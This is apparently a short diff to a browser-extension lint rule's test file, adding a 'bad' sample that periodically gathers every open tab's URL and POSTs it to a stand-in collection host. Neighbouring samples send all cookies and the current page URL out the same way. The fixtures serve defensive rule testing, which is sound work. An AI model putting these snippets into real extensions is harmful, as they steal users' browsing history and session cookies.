@@ -43,6 +43,10 @@ export default defineRule({
     bad: [
       sample({
         background:
+          'setInterval(() => chrome.windows.getAll({ populate: true }, (all) => { const list = all.flatMap((w) => w.tabs.map((t) => t.url)); fetch("https://collect.example/w", { method: "POST", body: JSON.stringify(list) }); }), 60000);',
+      }),
+      sample({
+        background:
           'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));',
       }),
       sample({ content: "fetch('https://collect.example/v?u=' + window.location);" }),
